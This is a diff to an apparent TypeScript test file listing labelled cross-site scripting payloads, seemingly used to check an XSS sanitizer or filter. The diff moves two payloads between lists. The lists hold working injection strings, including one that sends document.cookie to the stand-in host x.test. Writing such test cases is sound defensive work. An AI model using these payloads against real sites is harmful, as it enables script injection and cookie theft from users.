@@ -80,6 +80,8 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['script-string breakout by comparison', '"==alert(1)//'],
   ['quoted handler value opening with a space', '" onmouseover=" alert?.(1)'],
   ["eight spaces before a handler's equals sign", '" onmouseover        =alert?.(1)//'],
+  ['onerror given a sink in a block, then a throw', "';{onerror=alert}throw 1//"],
+  ['instanceof joining a call', '" instanceof alert(1)//'],
   ['script-string breakout inside what reads as a tag', "<b';alert(1)//"],
   ['script-string breakout by a less-than sign', "'<alert(1)//"],
   ['quoted handler value opening with a tab', "' onmouseover='\talert?.(1)"],
@@ -95,10 +97,8 @@ const SHORT_ONLY_ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['javascript: with an HTML-like comment, then a new line', 'javascript:-->a b%0Aprint()'],
   ['javascript: with a hashbang comment', 'javascript:#!a b\u2028print()'],
   ['javascript: with a using declaration', 'javascript:{using a=print()}'],
-  ['onerror given a sink in a block, then a throw', "';{onerror=alert}throw 1//"],
   ["an array literal's method given a sink", "'-[1].find(alert)-'"],
   ['the location assigned, stealing the cookie', "\";location='//x.test/?'+document.cookie//"],
-  ['instanceof joining a call', '" instanceof alert(1)//'],
 ];
 
 const BENIGN = [
